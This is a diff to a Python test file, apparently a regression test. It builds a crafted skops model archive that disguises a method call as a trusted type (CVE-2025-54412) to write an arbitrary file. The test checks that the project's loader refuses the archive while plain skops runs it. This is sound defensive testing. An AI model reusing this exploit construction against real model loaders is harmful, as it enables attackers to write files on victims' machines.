@@ -3,6 +3,8 @@ a file naming any other type is refused, and an older Dash's pickle is never ope
 
 from __future__ import annotations
 
+import io
+import json
 import logging
 import shutil
 import zipfile
@@ -62,6 +64,53 @@ def test_a_file_naming_another_type_is_refused(tmp_path):
     sio.dump({"model": Stranger()}, path)
     with pytest.raises(persist.UnsafeModelFile, match="Stranger"):
         persist.load(path)
+
+
+def _node(loader: str, module: str, cls: str, content: object) -> dict:
+    return {"__loader__": loader, "__module__": module, "__class__": cls, "content": content}
+
+
+def test_a_call_dressed_as_a_trusted_type_is_refused(tmp_path):
+    """skops 0.9 checks only the name a node carries: a "call this method" node labelled
+    with a trusted name passes its check and would write a file of the attacker's choosing
+    when loaded (CVE-2025-54412). Dash reads the schema first and refuses it."""
+    target = tmp_path / "written"
+    raw = sio.dumps({"model": np.frombuffer(b"payload", dtype=np.uint8).copy()})
+    with zipfile.ZipFile(io.BytesIO(raw)) as z:
+        files = {n: z.read(n) for n in z.namelist()}
+    schema = json.loads(files["schema.json"])
+    array = schema["content"]["model"]
+    label = ("sklearn._loss.link", "Interval")  # a name in persist.TRUSTED
+    args = _node("TupleNode", "builtins", "tuple", [_node("JsonNode", "builtins", "str", "")])
+    args["content"][0].update(content=json.dumps(str(target)), is_json=True)
+    empty = _node("DictNode", "builtins", "dict", {})
+    empty["key_types"] = _node("ListNode", "builtins", "list", [])
+    call = _node(
+        "PartialNode",
+        *label,
+        {
+            "func": _node("MethodNode", *label, {"obj": array, "func": "tofile"}),
+            "args": args,
+            "kwds": empty,
+            "namespace": empty,
+        },
+    )
+    schema["content"]["model"] = call
+    files["schema.json"] = json.dumps(schema).encode()
+    path = tmp_path / "brand.skops"
+    with zipfile.ZipFile(path, "w") as z:
+        for name, data in files.items():
+            z.writestr(name, data)
+    assert set(sio.get_untrusted_types(file=path)) <= set(persist.TRUSTED)  # skops lets it by
+    with pytest.raises(persist.UnsafeModelFile, match="PartialNode"):
+        persist.load(path)
+    assert not target.exists()
+    built = sio.load(path, trusted=list(persist.TRUSTED))  # skops alone builds the call,
+    built["model"]()  # and whoever calls it writes the attacker's bytes
+    assert target.read_bytes() == b"payload"
+    (tmp_path / "junk.skops").write_bytes(b"not a zip")
+    with pytest.raises(persist.UnsafeModelFile, match="not a model file"):
+        persist.load(tmp_path / "junk.skops")
 
 
 class _Marker:
